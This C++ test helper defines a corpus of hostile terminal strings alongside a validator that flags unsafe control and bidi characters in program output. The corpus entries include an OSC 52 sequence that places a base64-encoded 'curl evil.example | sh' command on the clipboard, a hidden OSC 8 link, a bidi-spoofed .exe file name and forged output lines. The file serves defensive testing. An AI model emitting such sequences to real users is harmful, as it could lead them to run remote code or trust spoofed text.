#include "hostile_text.hpp"

#include <cstdint>
#include <cstdio>
#include <sstream>

namespace toward::testing {

const std::vector<hostile_text>& hostile_texts() {
    static const std::vector<hostile_text> corpus{
        {"OSC 0 title", "hi \x1b]0;pwned\x07"},
        {"OSC 8 hyperlink", "\x1b]8;;https://evil.example/\x1b\\click me\x1b]8;;\x1b\\"},
        {"OSC 52 clipboard",
         "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
         "copied"},
        {"CSI 2J", "\x1b[2J\x1b[Hcleared"},
        {"CSI colour reset", "\x1b[0m\x1b[1;31mred and bold"},
        {"bidi override",
         "invoice \u202e"
         "fdp.exe\u202c ok"},
        {"C1 CSI",
         "\xc2\x9b"
         "2J C1 CSI"},
        {"forged line", std::string("hi\n") + forged_line},
        {"carriage return", std::string("innocent\r") + forged_line},
        {"backspaces", "secret\b\b\b\b\b\bshown \x7f"},
        {"line separator", "one\u2028two"},
    };
    return corpus;
}

namespace {

// The next code point, or -1 for ill-formed UTF-8 (checked strictly, on its own).
std::int64_t next_code_point(const std::string& s, std::size_t& i) {
    const auto lead = static_cast<unsigned char>(s[i++]);
    if (lead < 0x80) return lead;
    int more = lead >= 0xF0 && lead <= 0xF4 ? 3 : lead >= 0xE0 ? 2 : lead >= 0xC2 ? 1 : -1;
    if (lead > 0xF4 || more < 0) return -1;
    std::uint32_t value = lead & (0x3F >> more);
    for (int k = 0; k < more; ++k) {
        if (i >= s.size() || (static_cast<unsigned char>(s[i]) & 0xC0) != 0x80) return -1;
        value = (value << 6) | (static_cast<unsigned char>(s[i++]) & 0x3F);
    }
    constexpr std::uint32_t smallest[] = {0, 0x80, 0x800, 0x10000};
    if (value < smallest[more] || value > 0x10FFFF || (value >= 0xD800 && value <= 0xDFFF))
        return -1;
    return value;
}

std::string hex(std::int64_t value) {
    char text[32];
    std::snprintf(text, sizeof text, "U+%04llX", static_cast<unsigned long long>(value));
    return text;
}

}  // namespace

std::string terminal_safety_problem(const std::string& output) {
    std::size_t i = 0;
    while (i < output.size()) {
        const auto at = i;
        const auto c = next_code_point(output, i);
        const auto where = " at byte " + std::to_string(at);
        if (c < 0) return "invalid UTF-8" + where;
        if ((c < 0x20 && c != '\n' && c != '\t') || c == 0x7F) return "C0/DEL " + hex(c) + where;
        if (c >= 0x80 && c <= 0x9F) return "C1 " + hex(c) + where;
        if ((c >= 0x202A && c <= 0x202E) || (c >= 0x2066 && c <= 0x2069) || c == 0x200E ||
            c == 0x200F || c == 0x061C)
            return "bidi control " + hex(c) + where;
        if (c == 0x2028 || c == 0x2029) return "line separator " + hex(c) + where;
    }
    return {};
}

std::vector<std::string> lines_starting_with(const std::string& output, const std::string& prefix) {
    std::vector<std::string> found;
    std::istringstream lines(output);
    for (std::string line; std::getline(lines, line);) {
        if (line.rfind(prefix, 0) == 0) found.push_back(line);
    }
    return found;
}

}  // namespace toward::testing
